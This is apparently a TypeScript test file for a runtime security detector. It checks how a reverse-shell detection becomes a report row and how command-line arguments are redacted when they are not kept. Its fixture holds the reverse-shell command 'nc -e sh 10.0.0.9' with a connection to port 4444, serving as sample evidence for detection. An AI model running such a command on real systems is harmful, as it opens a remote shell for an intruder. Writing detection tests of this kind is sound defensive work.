import assert from "node:assert/strict";
import { test } from "node:test";
import { emptySubject } from "../../../core/process/subject.ts";
import type { Detection } from "../../../core/detect/contract.ts";
import { unknownSubject } from "../../../core/detect/blank-event.ts";
import { compileRules } from "../../../core/detect/compile-rules.ts";
import { engineOf, exec, fileOf, rule } from "../../../core/detect/rules.fixture.ts";
import { defaultSight } from "../visibility.ts";
import { securityRowOf } from "./security-row.ts";

const detection: Detection = {
  timeMs: Date.parse("2026-11-26T10:00:00.500Z"),
  rule: "Reverse shell",
  file: "builtin:sequences",
  format: "garrison",
  kind: "sequence",
  source: "syscall",
  priority: "critical",
  severity: "critical",
  title: "Reverse shell",
  tags: ["container"],
  techniques: ["T1059.004"],
  output: "a shell (command=nc -e sh 10.0.0.9 parent=sh)",
  outputFields: [
    ["proc.cmdline", "nc -e sh 10.0.0.9"],
    ["proc.pname", "sh"],
    ["proc.args", "<NA>"],
  ],
  evidence: [
    {
      timeMs: Date.parse("2026-11-26T10:00:00.100Z"),
      kind: "1 connects: connect",
      text: "10.0.0.9:4444",
      process: { pid: 7, startMs: 1 },
    },
    {
      timeMs: Date.parse("2026-11-26T10:00:00.500Z"),
      kind: "2 shell: execve",
      text: "nc -e sh 10.0.0.9",
      process: { pid: 7, startMs: 1 },
    },
  ],
  process: { pid: 7, startMs: 1 },
  comm: "nc",
  executable: "/usr/bin/nc",
  ancestors: ["sh", "web", "3", "4", "5", "6", "7", "8", "9"],
  subject: emptySubject,
  cgroupId: 1,
  tuple: undefined,
  count: 2,
  suppressedBefore: 3,
};

const context = {
  processId: "7.1.abc",
  subject: { ...emptySubject, namespace: "shop", workload: "web", workloadKind: "Deployment" as const },
  sight: defaultSight,
  fidelity: "kernel" as const,
};

test("a detection as a row: evidence with its times in order, fields by name, what was kept back counted", () => {
  const row = securityRowOf(detection, context);
  assert.deepEqual(row.evidence, [
    "2026-11-26T10:00:00.100Z 1 connects: connect: 10.0.0.9:4444",
    "2026-11-26T10:00:00.500Z 2 shell: execve: nc -e sh 10.0.0.9",
  ]);
  assert.deepEqual(row.outputFields, ["proc.cmdline=nc -e sh 10.0.0.9", "proc.pname=sh", "proc.args=<NA>"]);
  assert.deepEqual(
    [row.source, row.action, row.count, row.processId, row.workload, row.fidelity, row.ancestors.length],
    ["garrison", "detected", 5, "7.1.abc", "web", "kernel", 8],
  );
});

/** A detection of the engine itself on a program with words that must not be kept. */
function toldOf(output: string): Detection {
  const rules = compileRules([fileOf("f", [rule("r", "evt.type = execve and proc.name = deploy", { output })])]);
  assert.deepEqual(rules.problems, []);
  const { detector, told } = engineOf(rules);
  detector.take([exec(10, 1, ["/bin/deploy", "--customer", "Acme", "-u", "bob"])], () => unknownSubject);
  return told[0] as Detection;
}

for (const output of [
  "ran %proc.name",
  "ran %proc.cmdline",
  "ran %toupper(proc.cmdline) %len(proc.args)",
  "ran %evt.args",
  "ran %evt.arg.args %evt.arg[args] %evt.info",
  "ran %proc.exeline %garrison.argument[2]",
])
  test(`where arguments are not kept, they are in none of its texts: ${output}`, () => {
    const row = securityRowOf(toldOf(output), { ...context, sight: { ...defaultSight, arguments: false } });
    assert.doesNotMatch(JSON.stringify(row), /acme|bob|customer/i);
    assert.match(row.evidence[0] ?? "", /execve: \/bin\/deploy: ‹arguments not kept›/);
    assert.match(securityRowOf(toldOf(output), context).evidence[0] ?? "", /--customer Acme -u bob/);
  });

test("what holds no arguments stays; of a detection that does not say its texts without them, nothing does", () => {
  const unkept = { ...context, sight: { ...defaultSight, arguments: false } };
  const row = securityRowOf(toldOf("ran %proc.name as %proc.cmdline"), unkept);
  assert.equal(row.message, "ran deploy as ‹arguments not kept›");
  assert.deepEqual(row.outputFields, ["proc.name=deploy", "proc.cmdline=‹arguments not kept›"]);
  assert.ok(!JSON.stringify(securityRowOf(detection, unkept)).includes("-e sh"));
});
